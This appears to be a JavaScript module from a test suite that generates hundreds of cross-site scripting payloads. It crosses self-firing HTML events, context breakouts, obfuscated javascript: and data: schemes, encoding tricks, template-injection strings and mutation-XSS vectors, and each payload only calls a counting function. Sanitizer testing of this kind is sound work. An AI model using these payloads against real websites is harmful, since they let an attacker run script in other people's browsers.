// Text that runs a script where somebody takes it for markup, an address, a template or code: made by
// crossing ways to get there with ways to write a call. Each calls `hit(<its number>)` and nothing
// else, so that a page can count what ran. All of it is written for this project.

/** Elements whose own events fire without anybody doing anything, and what they need for it. */
const SELF_FIRING = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['input type=image src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x to=1', 'onbegin'],
  ['math><img src=x', 'onerror'],
  ['template><img src=x', 'onerror'],
  ['noscript><img src=x', 'onerror'],
  ['form><button autofocus', 'onfocus'],
];

/** Ways to write a tag with an event, by its start, its event and the call. */
const TAGS = [
  (start, event, call) => `<${start} ${event}=${call}>`,
  (start, event, call) => `<${start} ${event}="${call}"//`,
  (start, event, call) => `<${start.toUpperCase()}/${event.toUpperCase()}='${call}'>`,
  (start, event, call) => `"><${start} ${event}=${call}>`,
  (start, event, call) => `<${start} title="&quot;>" ${event}=top.${call} x='`,
  (start, event, call) => `'></title></textarea></style><${start}\n${event}\t=\r\n${call} >`,
];

/** Text that closes what it stands in, before a script element. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '`>',
  '</svg>',
  '</h3></a>',
  '</li></ul>',
  '\u0000',
  '\u2028',
  '\uFEFF',
  '%00">',
  '\\">',
  '<![CDATA[">',
  '<!--><!--',
];

/** Ways to write a script element. */
const SCRIPTS = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT\n>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<script>/*<a title="*/${call}//">`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
];

/** Schemes that run what follows, written in ways that a check by prefix misses. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\nscript:',
  'java\tscript:',
  'java\rscript:',
  '\u0001javascript:',
  '\u00a0javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'javascript\u2028:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
  'vbscript:',
  'blob:javascript:',
  'filesystem:javascript:',
];
const ADDRESSES = [
  (scheme, call) => `${scheme}${call}`,
  (scheme, call) => `${scheme}//shop.example/%0A${call}`,
  (scheme, call) => `<a href="${scheme}${call}">x</a>`,
  (scheme, call) => `"><iframe src="${scheme}parent.${call}">`,
  (scheme, call) => `"><object data="${scheme}${call}">`,
  (scheme, call) => `<svg><a xlink:href="${scheme}${call}"><text>x</text></a></svg>`,
];
const DATA = [
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `//data:text/javascript,${call}`,
];

/** Characters as entities, escapes and look-alikes, for what decodes once too often. */
const WRITINGS = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '\\74').replaceAll('>', '\\76'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u202E<').replaceAll('>', '>\u202C'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('>', '\u0000>'),
  (text) => text.replaceAll('<', '<\u200B'),
];

/** Template and code syntax of what pages are commonly made with, ours among it. */
const TEMPLATES = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$on.constructor('${call}')()}}`,
  (call) => `{{_openBlock.constructor('${call}')()}}`,
  (call) => `[[${call}]]`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `<%- ${call} %>`,
  (call) => `{%raw%}${call}{%endraw%}`,
  (call) => `{!! ${call} !!}`,
  (call) => `@{${call}}`,
  (call) => `';${call};'`,
  (call) => `";${call};"`,
  (call) => `\`;${call};\``,
  (call) => `\\';${call};//`,
  (call) => `</script><script>${call}//`,
  (call) => `<!--?lit$1$--><img src=x onerror=${call}>`,
  (call) => `<?lit$1$><img src=x onerror=${call}>`,
  (call) => `<img src=x @error=\${${call}}>`,
  (call) => `<img src=x v-on:error="${call}" x-on:error="${call}" ng-on-error="${call}">`,
  (call) => `<div style="width:expression(${call});background:url(javascript:${call})">`,
  (call) => `<style>@import 'javascript:${call}';*{behavior:url(x)}</style>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<link rel=import href="data:text/html,<script>${call}</script>">`,
  (call) => `<form action=javascript:${call}><input type=submit autofocus>`,
  (call) => `<button formaction=javascript:${call} autofocus>`,
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/></svg>`,
  (call) => `<svg><foreignObject><iframe onload=${call}></foreignObject></svg>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<img id=attributes name=innerHTML src=x onerror=${call}>`,
  (call) => `__proto__<img src=x onerror=${call}>`,
  (call) => `constructor[prototype]=<img src=x onerror=${call}>`,
];

/** The payloads, each another text, the same ones every time. */
export function scriptPayloads() {
  const makers = [
    ...TAGS.flatMap((tag) =>
      SELF_FIRING.map(
        ([start, event]) =>
          (call) =>
            tag(start, event, call),
      ),
    ),
    ...SCRIPTS.flatMap((script) => BREAKOUTS.map((out) => (call) => `${out}${script(call)}`)),
    ...ADDRESSES.flatMap((address) => SCHEMES.map((scheme) => (call) => address(scheme, call))),
    ...WRITINGS.flatMap((written) => [
      (call) => written(`<img src=x onerror=${call}>`),
      (call) => written(`"><script>${call}</script>`),
      (call) => written(`<svg onload=${call}>`),
    ]),
    ...DATA,
    ...TEMPLATES,
  ];
  return [...new Set(makers.map((make, nth) => make(`hit(${nth})`)))];
}
